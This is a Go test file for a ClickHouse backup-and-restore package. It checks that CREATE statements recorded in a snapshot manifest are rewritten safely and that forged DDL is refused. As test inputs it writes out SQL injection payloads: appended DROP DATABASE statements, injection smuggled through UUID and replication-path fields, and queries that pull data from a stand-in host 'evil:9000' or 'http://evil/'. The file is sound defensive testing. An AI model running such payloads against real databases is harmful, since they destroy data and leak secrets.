package clickhouse

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/tracevault/tracevault/snapshot/clickhouse/internal/chtest"
	"github.com/tracevault/tracevault/snapshot/store"
)

func TestRewriteCreate(t *testing.T) {
	mvCreate := "CREATE MATERIALIZED VIEW default.project_environments_traces_mv TO default.project_environments (`project_id` String) AS SELECT project_id, groupUniqArrayState(environment) AS environments FROM default.traces GROUP BY project_id"
	tests := []struct {
		name string
		stmt string
		r    Rewrite
		want []string // fragments the result must contain
		not  []string // fragments it must not
	}{
		{"in place on a cluster", chtest.TracesCreate, Rewrite{Database: "default", Cluster: "default"},
			[]string{"CREATE TABLE IF NOT EXISTS `default`.traces ON CLUSTER `default` (", "'/clickhouse/tables/{shard}/default/traces', '{replica}', event_ts"}, nil},
		{"database map moves the zookeeper path", chtest.TracesCreate, Rewrite{Database: "restored", Cluster: "default", DBMap: map[string]string{"default": "restored"},
			ZKPathMap: func(p string) string { return MapZooKeeperPath(p, "default", "restored") }},
			[]string{"`restored`.traces ON CLUSTER", "'/clickhouse/tables/{shard}/restored/traces'"}, []string{"/default/traces"}},
		{"staging twin is local and not replicated", chtest.TracesCreate, Rewrite{Database: "default", Table: "__tracevault_staging_traces", Cluster: "default", Staging: true},
			[]string{"CREATE TABLE IF NOT EXISTS `default`.`__tracevault_staging_traces` (", "ENGINE = ReplacingMergeTree(event_ts) PARTITION BY"}, []string{"ON CLUSTER", "/clickhouse/"}},
		{"view follows the database map", mvCreate, Rewrite{Database: "restored", DBMap: map[string]string{"default": "restored"}},
			[]string{"CREATE MATERIALIZED VIEW IF NOT EXISTS `restored`.project_environments_traces_mv TO `restored`.project_environments", "FROM `restored`.traces"}, []string{"default."}},
		// Fixture: modern servers (Atomic databases) keep the table UUID, which the default
		// replication path '/clickhouse/tables/{uuid}/{shard}' is derived from.
		{"fixture: modern server keeps the UUID", "CREATE TABLE default.traces (`id` String) ENGINE = ReplicatedReplacingMergeTree ORDER BY id",
			Rewrite{Database: "default", Cluster: "default", UUID: "5f2e9c1a-3b4d-4e6f-8a9b-0c1d2e3f4a5b"},
			[]string{"CREATE TABLE IF NOT EXISTS `default`.traces UUID '5f2e9c1a-3b4d-4e6f-8a9b-0c1d2e3f4a5b' ON CLUSTER `default`"}, nil},
		{"fixture: staging from a modern default-args engine", "CREATE TABLE default.traces (`id` String) ENGINE = ReplicatedReplacingMergeTree ORDER BY id",
			Rewrite{Database: "default", Table: "s", Staging: true}, []string{"ENGINE = ReplacingMergeTree() ORDER BY id"}, []string{"Replicated"}},
	}
	for _, tt := range tests {
		got, err := RewriteCreate(tt.stmt, tt.r)
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
			continue
		}
		for _, w := range tt.want {
			if !strings.Contains(got, w) {
				t.Errorf("%s: missing %q in\n%s", tt.name, w, got)
			}
		}
		for _, n := range tt.not {
			if strings.Contains(got, n) {
				t.Errorf("%s: unexpected %q in\n%s", tt.name, n, got)
			}
		}
	}
}

// Recorded statements are replayed only if they are the one CREATE of the object they are
// recorded for: a manifest is input from whoever can write to the repository.
func TestRecordedStatementsAreChecked(t *testing.T) {
	const uuid = "5f2e9c1a-3b4d-4e6f-8a9b-0c1d2e3f4a5b"
	traces := Table{Database: "default", Name: "traces", Engine: "ReplicatedReplacingMergeTree", Create: chtest.TracesCreate}
	mv := Table{Database: "default", Name: "mv", Engine: "MaterializedView", Create: "CREATE MATERIALIZED VIEW default.mv TO default.t (`x` String) AS SELECT x FROM default.src"}
	with := func(t Table, f func(*Table)) Table { f(&t); return t }
	tests := []struct {
		name string
		t    Table
		want string // empty: accepted; else a fragment of the error
	}{
		{"as SHOW CREATE wrote it", traces, ""},
		{"trailing semicolon", with(traces, func(t *Table) { t.Create += " ;\n" }), ""},
		{"quoted names with escapes", Table{Database: "my db", Name: "a`b", Engine: "MergeTree", Create: "CREATE TABLE `my db`.`a\\`b` (`x` UInt8) ENGINE = MergeTree ORDER BY x"}, ""},
		{"materialized view", mv, ""},
		{"inner table of a materialized view", Table{Database: "default", Name: ".inner.mv", Engine: "MergeTree", Create: "CREATE TABLE default.`.inner.mv` (`x` String) ENGINE = MergeTree ORDER BY x"}, ""},
		{"strings holding ; -- and /*", Table{Database: "d", Name: "t", Engine: "MergeTree", Create: "CREATE TABLE d.t (`x` String DEFAULT 'a;b -- c /* d \\' e') ENGINE = MergeTree ORDER BY x COMMENT 'it''s; fine'"}, ""},
		{"modern UUID clause", Table{Database: "d", Name: "t", Engine: "MergeTree", UUID: uuid, Create: "CREATE TABLE d.t UUID '" + uuid + "' (`x` UInt8) ENGINE = MergeTree ORDER BY x"}, ""},

		{"a second statement", with(traces, func(t *Table) { t.Create += "; DROP DATABASE x" }), "follows the semicolon"},
		{"a second statement after a string", with(traces, func(t *Table) {
			t.Create = strings.Replace(t.Create, "ORDER BY (id)", "COMMENT 'x'; DROP DATABASE x; SELECT 'y' ORDER BY (id)", 1)
		}), "follows the semicolon"},
		{"a statement hidden by a line comment", with(traces, func(t *Table) { t.Create += " -- \nDROP DATABASE x" }), "comment"},
		{"nested comments", with(traces, func(t *Table) { t.Create += " /* /* */ ; DROP DATABASE x; */" }), "comment"},
		{"hash comment", with(traces, func(t *Table) { t.Create += " # x" }), "comment"},
		{"heredoc", with(traces, func(t *Table) { t.Create += " $$ ' $$; DROP DATABASE x; -- '" }), "heredoc"},
		{"unclosed quote", with(traces, func(t *Table) { t.Create += " 'abc" }), "never closed"},
		{"NUL byte", with(traces, func(t *Table) { t.Create += "\x00DROP DATABASE x" }), "control character"},
		{"a different table", with(traces, func(t *Table) { t.Name = "observations" }), "creates default.traces instead"},
		{"a different database", with(traces, func(t *Table) { t.Database = "langfuse" }), "creates default.traces instead"},
		{"unqualified name", with(traces, func(t *Table) { t.Create = "CREATE TABLE traces (`id` String) ENGINE = Memory" }), "not database-qualified"},
		{"escape the server reads differently", Table{Database: "d", Name: "x41", Engine: "MergeTree", Create: "CREATE TABLE d.`\\x41` (`x` UInt8) ENGINE = MergeTree ORDER BY x"}, "escape"},
		{"ATTACH", with(traces, func(t *Table) { t.Create = strings.Replace(t.Create, "CREATE", "ATTACH", 1) }), "does not start with CREATE"},
		{"INSERT ... SELECT", with(traces, func(t *Table) {
			t.Create = "INSERT INTO default.traces SELECT * FROM remote('evil:9000', default.secrets)"
		}), "does not start with CREATE"},
		{"CREATE USER", with(traces, func(t *Table) { t.Create = "CREATE USER default.traces IDENTIFIED BY 'x'" }), "creates no table"},
		{"malformed UUID in the record", with(traces, func(t *Table) { t.UUID = "x'; DROP DATABASE default; --" }), "is not a UUID"},
		{"malformed UUID in the statement", Table{Database: "d", Name: "t", Engine: "MergeTree", Create: "CREATE TABLE d.t UUID '5f2e9c1a-3b4d' (`x` UInt8) ENGINE = MergeTree ORDER BY x"}, "no well-formed UUID"},
		{"unquoted UUID", Table{Database: "d", Name: "t", Engine: "MergeTree", UUID: uuid, Create: "CREATE TABLE d.t UUID " + uuid + " (`x` UInt8) ENGINE = MergeTree ORDER BY x"}, "quoted UUID"},
		{"UUID other than the record's", Table{Database: "d", Name: "t", Engine: "MergeTree", UUID: uuid, Create: "CREATE TABLE d.t UUID '00000000-3b4d-4e6f-8a9b-0c1d2e3f4a5b' (`x` UInt8) ENGINE = MergeTree ORDER BY x"}, "the record says"},
		{"a table filled by a query at restore", with(traces, func(t *Table) {
			t.Create = "CREATE TABLE default.traces ENGINE = MergeTree ORDER BY id AS SELECT * FROM url('http://evil/', CSV, 'id String')"
		}), "AS"},
		{"a table copying another's structure", with(traces, func(t *Table) { t.Create = "CREATE TABLE default.traces AS default.other ENGINE = Memory" }), "AS"},
		{"POPULATE", with(mv, func(t *Table) {
			t.Create = "CREATE MATERIALIZED VIEW default.mv ENGINE = MergeTree ORDER BY x POPULATE AS SELECT x FROM remote('evil:9000', system.one)"
		}), "POPULATE"},
		{"AS inside parentheses and strings", Table{Database: "d", Name: "t", Engine: "MergeTree",
			Create: "CREATE TABLE d.t (`x` UInt8, `y` UInt8 ALIAS x, PROJECTION p (SELECT x AS z ORDER BY z)) ENGINE = MergeTree ORDER BY x COMMENT 'as populate'"}, ""},
		{"a view recorded as a table", with(mv, func(t *Table) { t.Engine = "MergeTree" }), "creates a materialized view"},
		{"a table recorded as a view", with(traces, func(t *Table) { t.Engine = "View" }), "creates a table"},
		{"a view of another name", with(mv, func(t *Table) { t.Name = "other" }), "creates default.mv instead"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.t.CheckCreate()
			if tt.want == "" {
				if err != nil {
					t.Fatalf("CheckCreate: %v", err)
				}
				if _, err := RewriteCreate(tt.t.Create, Rewrite{Database: tt.t.Database, UUID: tt.t.UUID}); err != nil {
					t.Errorf("RewriteCreate: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("CheckCreate: %v; want an error containing %q", err, tt.want)
			}
		})
	}

	sec := &Section{Tables: []TableRecord{{Table: traces}, {Table: with(mv, func(t *Table) { t.Name = "other" })}, {Table: with(traces, func(t *Table) { t.Create += "; DROP DATABASE x" })}}}
	err := sec.CheckStatements()
	if err == nil || !strings.Contains(err.Error(), "default.other") || !strings.Contains(err.Error(), "follows the semicolon") || strings.Count(err.Error(), "recorded statement") != 2 {
		t.Errorf("CheckStatements: %v; want both bad tables named", err)
	}
}

// RewriteCreate checks what it splices in, whatever path calls it.
func TestRewriteCreateRefuses(t *testing.T) {
	tests := []struct {
		name string
		stmt string
		r    Rewrite
		want string
	}{
		{"second statement", chtest.TracesCreate + "; DROP DATABASE x", Rewrite{Database: "default"}, "follows the semicolon"},
		{"malformed UUID", chtest.TracesCreate, Rewrite{Database: "default", UUID: "1' ; DROP DATABASE x; --"}, "is not a UUID"},
		{"replication path leaving its quotes", chtest.TracesCreate, Rewrite{Database: "default", ZKPathMap: func(string) string { return "/x', 'r') ENGINE = Memory; --" }}, "leave its quotes"},
	}
	for _, tt := range tests {
		if got, err := RewriteCreate(tt.stmt, tt.r); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: %q, %v; want an error containing %q", tt.name, got, err, tt.want)
		}
	}
}

func FuzzRewriteCreate(f *testing.F) {
	for _, s := range []string{chtest.TracesCreate, chtest.TracesCreate + "; DROP DATABASE x", "CREATE MATERIALIZED VIEW default.mv TO default.t (`x` String) AS SELECT x FROM default.src",
		"CREATE TABLE d.t UUID '5f2e9c1a-3b4d-4e6f-8a9b-0c1d2e3f4a5b' (`x` String DEFAULT 'a;\\'b') ENGINE = MergeTree ORDER BY x", "CREATE TABLE `a``b`.\"c\\\"d\" (x UInt8) ENGINE = Memory /* */"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, stmt string) {
		out, err := RewriteCreate(stmt, Rewrite{Database: "target", Cluster: "c", UUID: "5f2e9c1a-3b4d-4e6f-8a9b-0c1d2e3f4a5b"})
		if err != nil {
			return
		}
		// Whatever was accepted comes out as one CREATE of the target database, and stays so.
		c, err := parseCreate(out)
		if err != nil {
			t.Fatalf("rewrote %q into %q, which does not parse: %v", stmt, out, err)
		}
		if c.database != "target" {
			t.Fatalf("rewrote %q into a CREATE in database %q", stmt, c.database)
		}
		in, _ := parseCreate(stmt)
		if c.table != in.table || c.verb != in.verb {
			t.Fatalf("rewrote %q (%s %s) into %q (%s %s)", stmt, in.verb, in.table, out, c.verb, c.table)
		}
	})
}

// Every restore path reads the section through SnapshotSection, which refuses forged DDL.
func TestSnapshotSectionRefusesForgedDDL(t *testing.T) {
	forged := Section{Tables: []TableRecord{{Table: Table{Database: "default", Name: "traces", Engine: "ReplicatedReplacingMergeTree", Create: chtest.TracesCreate + "; DROP DATABASE default"}}}}
	raw, err := json.Marshal(forged)
	if err != nil {
		t.Fatal(err)
	}
	m := &store.Manifest{ID: "20260101T000000Z-abcdef", Sections: map[string]json.RawMessage{"clickhouse": raw}}
	if _, _, err := SnapshotSection(m); err == nil || !strings.Contains(err.Error(), "default.traces") || !strings.Contains(err.Error(), m.ID) {
		t.Errorf("SnapshotSection of a forged statement: %v; want an error naming the snapshot and the table", err)
	}
}
